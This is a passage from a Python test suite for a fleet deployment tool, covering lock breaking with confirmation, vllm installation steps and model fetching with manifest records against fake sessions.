    fleet, sess = _fake_fleet(world, {"unlock": [{"unlocked": False, "holder": holder}, {"unlocked": True}]})
    r = ops.unlock(fleet, "pve1", 129, rt, lambda view: "token" not in view, Progress(quiet=True))
    assert r["state"] == "broken" and r["holder"]["holder"] == "ann@ws pid 7" and "token" not in r["holder"]
    assert [a for a, _ in sess.calls] == ["unlock", "unlock"] and "T0K" not in json.dumps(sess.calls)
    check_plan_is_program(P.plan_unlock("pve1", 129, rt), sess)
    fleet, sess = _fake_fleet(world, {"unlock": {"unlocked": False, "holder": holder}})
    assert ops.unlock(fleet, "pve1", 129, rt, lambda view: False, Progress(quiet=True))["state"] == "kept"
    assert len(sess.calls) == 1  # not confirmed: the planned break-lock never runs
    fleet, sess = _fake_fleet(world, {"unlock": {"unlocked": False, "holder": None}})
    assert ops.unlock(fleet, "pve1", 129, rt, lambda view: 1 / 0, Progress(quiet=True))["state"] == "free"


def test_install_vllm_sends_only_its_planned_calls(world):
    """Issue 51: install-vllm's probe, start and attach are its step's planned calls (sub-steps), filled in with the
    runner's id and log position only."""
    inv, pb = world
    pb = dataclasses.replace(pb, data={**pb.data, "requires": {**pb.data["requires"], "vllm": "0.34.0"}})
    rt = {"kind": "symlink", "venv_root": "/root/ml-env", "target": "/root/ml-env.versions/a", "real": "/x"}
    done = {"status": "ok", "id": "i1", "message": "installed", "elapsed": 1.0}
    answers = {"probe": {"ok": True, "runtime": rt, "install": {}}, "start": {
        "ok": True, "started": True, "id": "i1", "pid": 9, "log": "/l", "stage": "/s", "installer": "pip"},
        "attach": {"ok": True, "done": True, "install": done, "log_pos": 3}}
    fleet, sess = _fake_fleet(world, {"install_vllm": lambda a: answers[a["op"]]})
    out = ops.install_vllm(fleet, pb, Progress(quiet=True))
    assert out.ok and out.status == "installed", out.error
    assert [a["op"] for _, a in sess.calls if _ == "install_vllm"] == ["probe", "start", "attach"]
    attach = sess.calls[-1][1]
    assert (attach["id"], attach["log_pos"]) == ("i1", 0)
    planned = P.plan_install(pb)
    assert {k: v for k, v in attach.items() if k not in ("id", "log_pos", "follow_s")} == \
        {k: v for k, v in P.call_of(planned[-1], "install-attach").args.items() if k not in ("id", "log_pos", "follow_s")}


def test_fetch_manifest_reads_the_records_in_a_planned_step(world):
    """Issue 51: deploy fetch --manifest reads the fetch records in the plan's step manifest-records (no call of its
    own), and hands them by role to the writer once the fetch succeeded."""
    inv, pb = world
    pb = dataclasses.replace(pb, data={**pb.data, "model": {**pb.data["model"], "hub": "Qwen/Qwen3.6-27B",
                                                             "revision": "main"}})
    dest = pb.conf.model.path
    rec = {"hub": "Qwen/Qwen3.6-27B", "revision": "main", "commit": "c" * 40, "files": [{"name": "w", "size": 1}]}
    answers = {"probe": {"ok": True, "fetch": {}, "items": [{"role": "model", "dest": dest, "in_place": True,
                                                             "record": rec}]},
               "records": {"ok": True, "records": {dest: rec}}}
    fleet, sess = _fake_fleet(world, {"fetch": lambda a: answers[a["op"]]})
    got = []
    out = ops.fetch(fleet, pb, Progress(quiet=True), manifest=got.append)
    assert out.ok and out.status == "already fetched", out.error
    assert [a["op"] for _, a in sess.calls if _ == "fetch"] == ["probe", "records"]
    assert got[0]["model"] == rec and set(got[0]) == set(P.fetch_dests(pb))
    check_plan_is_program(P.plan_fetch(pb, manifest=True), sess)
